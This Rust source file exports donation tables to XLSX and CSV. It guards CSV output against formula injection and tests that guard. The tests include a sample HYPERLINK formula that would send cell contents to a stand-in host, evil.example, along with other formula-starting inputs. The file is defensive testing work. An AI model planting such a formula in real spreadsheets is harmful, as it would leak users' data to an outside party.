//! Tables out: XLSX for people, CSV (UTF-8 with a BOM, so Excel on a Chinese Windows opens it
//! right) for other programs. Money stays exact: fen are turned into yuan by integer division.
//!
//! Text comes from people (donor names, notes), so a CSV text cell that a spreadsheet would
//! take for a formula (`=HYPERLINK(…)`, `+1`, `-2+3`, `@SUM(A1)`) gets a leading `'`, as OWASP
//! advises against CSV injection; numbers and money are written as they are. XLSX needs no
//! such care: text goes in as string cells (`write_string`, a shared string, never a
//! formula), which Excel shows and never evaluates.

use domain::money::Fen;

/// One cell of an exported table.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Cell {
    Text(String),
    Int(i64),
    /// Shown as yuan with two decimals.
    Money(Fen),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Format {
    Xlsx,
    Csv,
}

impl Format {
    pub fn parse(s: &str) -> Option<Format> {
        match s {
            "xlsx" => Some(Format::Xlsx),
            "csv" => Some(Format::Csv),
            _ => None,
        }
    }

    pub fn extension(self) -> &'static str {
        match self {
            Format::Xlsx => "xlsx",
            Format::Csv => "csv",
        }
    }

    pub fn content_type(self) -> &'static str {
        match self {
            Format::Xlsx => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Format::Csv => "text/csv; charset=utf-8",
        }
    }
}

fn yuan_text(f: Fen) -> String {
    let sign = if f.fen() < 0 { "-" } else { "" };
    let abs = f.fen().unsigned_abs();
    format!("{sign}{}.{:02}", abs / 100, abs % 100)
}

/// What a spreadsheet takes for the start of a formula (or, for tab and carriage return, strips
/// to reach one); full-width forms too, which some spreadsheets fold to ASCII.
const FORMULA_START: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// A text cell as written to CSV: with a leading `'` when it would otherwise start a formula.
fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
    if s.starts_with(FORMULA_START) {
        format!("'{s}").into()
    } else {
        s.into()
    }
}

/// Writes a sheet with a header row.
pub fn write_table(
    format: Format,
    sheet: &str,
    headers: &[&str],
    rows: &[Vec<Cell>],
) -> Result<Vec<u8>, String> {
    match format {
        Format::Csv => {
            let mut out = b"\xEF\xBB\xBF".to_vec();
            {
                let mut w = csv::Writer::from_writer(&mut out);
                w.write_record(headers.iter().map(|h| csv_text(h).into_owned()))
                    .map_err(|e| e.to_string())?;
                for row in rows {
                    w.write_record(row.iter().map(|c| match c {
                        Cell::Text(s) => csv_text(s).into_owned(),
                        // Numbers stay numbers: `-0.05` is money, not a formula.
                        Cell::Int(i) => i.to_string(),
                        Cell::Money(f) => yuan_text(*f),
                    }))
                    .map_err(|e| e.to_string())?;
                }
                w.flush().map_err(|e| e.to_string())?;
            }
            Ok(out)
        }
        Format::Xlsx => {
            use rust_xlsxwriter::{Format as XFormat, Workbook};
            let mut book = Workbook::new();
            let ws = book.add_worksheet();
            ws.set_name(sheet).map_err(|e| e.to_string())?;
            let bold = XFormat::new().set_bold();
            let money = XFormat::new().set_num_format("#,##0.00");
            for (c, h) in headers.iter().enumerate() {
                ws.write_string_with_format(0, c as u16, *h, &bold)
                    .map_err(|e| e.to_string())?;
            }
            for (r, row) in rows.iter().enumerate() {
                let r = r as u32 + 1;
                for (c, cell) in row.iter().enumerate() {
                    let c = c as u16;
                    match cell {
                        // A string cell, whatever it starts with: safe from formula injection.
                        Cell::Text(s) => ws.write_string(r, c, s).map(|_| ()),
                        Cell::Int(i) => ws.write_number(r, c, *i as f64).map(|_| ()),
                        // A spreadsheet number is a double: exact for every amount under
                        // 2^53 fen, far beyond any single amount the platform accepts.
                        Cell::Money(f) => ws
                            .write_number_with_format(r, c, f.fen() as f64 / 100.0, &money)
                            .map(|_| ()),
                    }
                    .map_err(|e| e.to_string())?;
                }
            }
            book.save_to_buffer().map_err(|e| e.to_string())
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rows() -> Vec<Vec<Cell>> {
        vec![
            vec![
                Cell::Text("张三,“丰”".into()),
                Cell::Int(7),
                Cell::Money(Fen::new(12345)),
            ],
            vec![
                Cell::Text("冲销".into()),
                Cell::Int(8),
                Cell::Money(Fen::new(-5)),
            ],
        ]
    }

    #[test]
    fn csv_has_a_bom_and_exact_yuan() {
        let out = write_table(Format::Csv, "x", &["捐赠人", "编号", "金额"], &rows()).unwrap();
        assert!(out.starts_with(b"\xEF\xBB\xBF"));
        let text = String::from_utf8(out[3..].to_vec()).unwrap();
        assert_eq!(
            text,
            "捐赠人,编号,金额\n\"张三,“丰”\",7,123.45\n冲销,8,-0.05\n"
        );
    }

    fn injected() -> Vec<Vec<Cell>> {
        [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
            "+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "＝1+1",
        ]
        .into_iter()
        .map(|s| {
            vec![
                Cell::Text(s.into()),
                Cell::Int(-3),
                Cell::Money(Fen::new(-5)),
            ]
        })
        .collect()
    }

    #[test]
    fn csv_text_that_looks_like_a_formula_gets_a_quote_but_numbers_stay_numbers() {
        let out = write_table(Format::Csv, "x", &["捐赠人", "编号", "金额"], &injected()).unwrap();
        let mut csv = csv::ReaderBuilder::new().from_reader(&out[3..]);
        let cells: Vec<Vec<String>> = csv
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect();
        let firsts: Vec<&str> = cells.iter().map(|r| r[0].as_str()).collect();
        assert_eq!(
            firsts,
            [
                "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
                "'+1",
                "'-2+3",
                "'@SUM(A1)",
                "'\t=1+1",
                "'\r=1+1",
                "'＝1+1",
            ]
        );
        for row in &cells {
            assert_eq!((row[1].as_str(), row[2].as_str()), ("-3", "-0.05"));
        }
        // Ordinary text is untouched, and so is a sign that is not at the start.
        let plain = vec![vec![Cell::Text("王芳 1+1=2".into())]];
        let out = write_table(Format::Csv, "x", &["a"], &plain).unwrap();
        assert_eq!(&out[3..], "a\n王芳 1+1=2\n".as_bytes());
    }

    #[test]
    fn xlsx_text_that_looks_like_a_formula_stays_text() {
        use calamine::{Data, Reader, Xlsx};
        let out = write_table(
            Format::Xlsx,
            "捐赠",
            &["捐赠人", "编号", "金额"],
            &injected(),
        )
        .unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(out)).unwrap();
        let formulas = book.worksheet_formula("捐赠").unwrap();
        assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));
        let range = book.worksheet_range("捐赠").unwrap();
        let link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")";
        assert_eq!(range.get((1, 0)), Some(&Data::String(link.into())));
        assert_eq!(range.get((2, 0)), Some(&Data::String("+1".into())));
        assert_eq!(range.get((4, 0)), Some(&Data::String("@SUM(A1)".into())));
        assert_eq!(range.get((1, 2)), Some(&Data::Float(-0.05)));
    }

    #[test]
    fn xlsx_reads_back_with_the_same_values() {
        use calamine::{Data, Reader, Xlsx};
        let out = write_table(Format::Xlsx, "捐赠", &["捐赠人", "编号", "金额"], &rows()).unwrap();
        let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(out)).unwrap();
        let range = book.worksheet_range("捐赠").unwrap();
        assert_eq!(range.get((0, 0)), Some(&Data::String("捐赠人".into())));
        assert_eq!(range.get((1, 0)), Some(&Data::String("张三,“丰”".into())));
        assert_eq!(range.get((1, 2)), Some(&Data::Float(123.45)));
        assert_eq!(range.get((2, 2)), Some(&Data::Float(-0.05)));
    }
}
